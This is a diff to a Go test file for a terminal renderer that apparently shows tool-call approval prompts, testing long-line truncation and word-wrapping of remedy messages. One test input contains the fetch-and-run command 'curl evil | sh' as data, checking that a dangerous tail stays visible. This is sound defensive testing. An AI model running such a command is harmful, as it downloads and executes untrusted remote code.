@@ -36,11 +36,28 @@ func TestQuotedTextStandsBehindABar(t *testing.T) {
 // A long value cannot push what is above or beside it out of sight.
 func TestLongLinesAreCut(t *testing.T) {
 	got := rendered(Message{Body: "before\n  + a = " + strings.Repeat("é ", 50_000) + "; curl evil | sh   (f:1)\nafter"})
-	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(strings.ReplaceAll(got, "\n"+bar, ""), "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(strings.ReplaceAll(got, "\n"+bar, ""), "more bytes, in all sha256:") || !utf8.ValidString(got) {
+	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(strings.ReplaceAll(got, "\n"+Bar, ""), "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(strings.ReplaceAll(got, "\n"+Bar, ""), "more bytes, in all sha256:") || !utf8.ValidString(got) {
 		t.Errorf("%d bytes: %.100s … %s", len(got), got, got[len(got)-100:])
 	}
 	above, question := view{columns: 80, rows: 24}.screen(Message{Body: "A call of t:", Quoted: strings.Repeat("x\n", 1000)}, nil, "", "Let t run?", "[y/n] ")
 	if !strings.HasSuffix(above, "x\n(1001 rows in all; the screen has 24)\nA call of t:\n") || question != "Let t run? [y/n] " {
 		t.Errorf("%s%s", above[len(above)-200:], question)
+	}
+}
+
+// Lines of the host break between words, commands do not break.
+func TestMessagesFitTheTerminal(t *testing.T) {
+	for in, want := range map[string]string{
+		"  short":                       "  short",
+		"  one two three four five six": "  one two three\n    four five six",
+		"  to allow it for this call: --cfg 'a.b.c = [1, 2, 3]'": "  to allow it for\n    this call:\n    --cfg 'a.b.c = [1, 2, 3]'",
+		"    set it aside: jphost x":                             "    set it aside:\n      jphost x",
+		"  why: the words go on and on":                          "  why: the words go\n    on and on",
+		"  | one two three four five":                            "  | one two three f\n  | our five",
+		"  宽宽宽宽宽宽 宽宽宽宽宽宽":                                        "  宽宽宽宽宽宽\n    宽宽宽宽宽宽",
+	} {
+		if got := foldRemedy(in, 20); got != want {
+			t.Errorf("%q\nbecame %q\nwant   %q", in, got, want)
+		}
 	}
 }
